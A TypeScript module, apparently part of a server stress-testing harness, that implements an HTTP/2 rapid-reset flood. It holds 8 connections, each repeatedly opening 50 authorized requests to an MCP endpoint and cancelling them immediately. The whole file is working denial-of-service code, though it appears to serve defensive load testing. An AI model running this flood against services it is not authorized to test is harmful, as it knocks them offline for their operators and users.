import { once } from 'node:events';
import { connect, constants } from 'node:http2';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Flood } from '../flood.ts';
import { bearer, message, repeat } from '../wire.ts';

const STREAMS = 50;
const PING = message('ping');

export const flood: Flood = {
  what: 'HTTP/2 requests with a token that are reset at once, on 8 connections',
  run: async (target, signal) => {
    const headers = { ':method': 'POST', ':path': '/other/mcp', 'content-type': 'application/json' };
    const authorized = { ...headers, ...bearer(await target.token()) };
    await repeat(8, signal, async () => {
      const client = connect(target.url);
      client.on('error', () => undefined);
      await Promise.race([once(client, 'connect'), once(client, 'close')]).catch(() => undefined);
      while (!client.closed && !client.destroyed && !signal.aborted) {
        const calls = Array.from({ length: STREAMS }, () => client.request(authorized));
        for (const call of calls) call.on('error', () => undefined).end(PING);
        await sleep(1);
        for (const call of calls) call.close(constants.NGHTTP2_CANCEL);
        target.count(`rounds of ${STREAMS}`);
      }
      client.destroy();
      await sleep(5);
    });
  },
};
